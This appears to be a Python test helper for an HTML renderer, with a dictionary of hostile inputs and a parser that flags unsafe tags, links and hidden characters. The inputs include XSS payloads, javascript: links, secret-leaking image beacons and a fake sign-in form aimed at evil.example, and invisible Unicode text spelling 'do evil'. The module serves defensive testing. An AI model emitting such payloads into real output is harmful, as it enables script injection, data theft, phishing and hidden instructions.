"""Text as an attacker would have a model, a tool or a file name say it, and the judge of whether it did anything."""

import json
import re
from collections.abc import Iterator
from html.parser import HTMLParser
from typing import Any

ATTACKS = {
    "script": "<script>window.hit = 1</script>",
    "image": '<img src="x" onerror="window.hit = 2">',
    "svg": "<svg onload=window.hit=3>",
    "frame": '<iframe srcdoc="<script>parent.hit = 4</script>"></iframe>',
    "close": "</code></pre></div></details></td></table><h1>Taken over</h1>",
    "attribute": '" onmouseover="window.hit = 5" style="position:fixed;inset:0" x="',
    "comment": "<!-- --><b>bold</b>",
    "style": "<style>body { display: none }</style>",
    "meta": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "form": '<form action="https://evil.example"><input name="key"><button>Sign in</button></form>',
    "command": '<button data-commandlinker-command="terminal:create-new">Run</button>',
    "script link": "[click](javascript:window.hit=6)",
    "hidden script link": "[a](JaVa\tScRiPt:window.hit=7) [b](\x01javascript:1) [d](data:text/html,<b>)",
    "entity link": "[click](&#106;avascript:window.hit=8) <javascript:window.hit=9>",
    "beacon": "![secret](https://evil.example/beacon.png?key=secret)",
    "linked beacon": "[![x](https://evil.example/a.png)](https://evil.example/b)",
    "reference beacon": "![x][1]\n\n[1]: https://evil.example/beacon.png",
    "quoted link": '[x](https://evil.example/"onclick="hit=1 "t\\"onfocus=\\"hit=2")',
    "server path": "[restart](/api/kernels) [x](//evil.example/x) ![p](/files/x.png)",
    "fence": '```html"><script>window.hit = 10</script>\n<b>\n```',
    "ansi": "\x1b[31mred\x1b[0m \x1b]8;;https://evil.example\x07link\x1b]8;;\x07 \x1b[2J\x9b31m",
    "bidi": "access \u202etxt.exe\u202c \u2066isolated\u2069 \u200bzero\ufeff",
    "smuggled": "hello" + "".join(chr(0xE0000 + ord(c)) for c in "do evil"),
    "joiners": "a\u200c\u200d\u200c\u200db \ufe00\ufe01\ufe02 \U000e0101\U000e01ef \u2060\u2063\u3164\uffa0",
    "right to left": "\u05e9\u05dc\u05d5\u05dd \u202b[x](https://evil.example/\u202e) \u200f\u200f\u200f end",
    "surrogate": "half \ud800 pair",
    "null": "a\x00b\x08\x7f",
    "math": r"$\href{javascript:hit=11}{x}$ \(\style{color:red}{x}\) $$\require{html}$$ \begin{align}x\end{align}",
    "money": "It costs $5 today and $6 tomorrow.",
    "file name": '../../<img src=x onerror="hit=12">.csv',
    "long word": "x" * 60_000,
    "long lines": "line\n" * 20_000,
    "deep quote": ">" * 3_000 + " deep",
    "deep list": "\n".join("  " * i + "- x" for i in range(400)),
    "brackets": "[" * 5_000 + "](" * 5_000,
    "json": json.dumps({"<script>": "<img src=x onerror=hit=13>"}),
    "json bomb": "[" * 5_000 + "]" * 5_000,
}

_TAGS = {
    *("a", "blockquote", "br", "code", "details", "div", "em", "h4", "h5", "h6", "hr", "img", "li", "ol", "p", "pre"),
    *("s", "small", "strong", "summary", "table", "tbody", "td", "th", "thead", "tr", "ul", "wbr"),
}
_ATTRIBUTES = {
    "a": {"href", "rel", "title"},
    "img": {"src", "alt", "width", "style"},
    "details": {"open", "style"},
    "ol": {"start"},
    "th": {"scope", "align", "style"},
    "td": {"align", "style"},
}


class _Judge(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.faults, self.words, self.open = list[str](), list[str](), list[str]()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in _TAGS:
            self.faults.append(f"<{tag}>")
        if tag not in ("br", "hr", "img", "wbr"):
            self.open.append(tag)
        for name, value in attrs:
            value = value or ""
            if name not in _ATTRIBUTES.get(tag, set()) | {"style", "class"} and (name, value) != ("dir", "auto"):
                self.faults.append(f"<{tag} {name}>")
            if name == "class" and value != "tex2jax_ignore mathjax_ignore":
                self.faults.append(f"class {value}")
            if name == "href" and not value.startswith(("http://", "https://", "mailto:")):
                self.faults.append(f"link to {value}")
            if name == "src" and not value.startswith(("data:image/webp;base64,", "data:image/png;base64,")):
                self.faults.append(f"loads {value}")
            if name == "style" and ("url(" in value or "position" in value):
                self.faults.append(f"style {value}")

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)  # <br />

    def handle_endtag(self, tag: str) -> None:
        if not self.open or self.open.pop() != tag:
            self.faults.append(f"unbalanced </{tag}>")

    def handle_comment(self, data: str) -> None:
        self.faults.append(f"comment {data}")

    def handle_data(self, data: str) -> None:
        self.words.append(data)


def faults(html: str) -> list[str]:
    """What this HTML could do that a display must not: empty when it is harmless and well nested."""
    judge = _Judge()
    judge.feed(html)
    judge.close()
    found = judge.faults + [f"unclosed <{tag}>" for tag in judge.open]
    found += [f"character U+{ord(c):04X}" for c in set(html) if (ord(c) < 32 and c not in "\n\t") or c in _HIDDEN]
    if re.search(r"\n[ \t]*\n", html):
        found.append("in a Markdown page the blank line would end the HTML")
    if not html.startswith('<div class="tex2jax_ignore mathjax_ignore"'):
        found.append("MathJax would typeset it")
    return found


_HIDDEN = set("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200b\ufeff\x7f\x9b\ud800")
_HIDDEN |= set("\u2060\u2063\u3164\uffa0\U000e0101\U000e01ef")


def words(html: str) -> str:
    """The text that a reader sees."""
    judge = _Judge()
    judge.feed(html)
    return "".join(judge.words)


def poisoned(value: Any, poison: Any) -> Iterator[Any]:
    """The value again and again, each time with another one of its parts replaced."""
    if isinstance(value, dict):
        for key, inner in value.items():
            for bad in poisoned(inner, poison):
                yield {**value, key: bad}
    elif isinstance(value, list):
        for i, inner in enumerate(value):
            for bad in poisoned(inner, poison):
                yield [*value[:i], bad, *value[i + 1 :]]
    yield poison
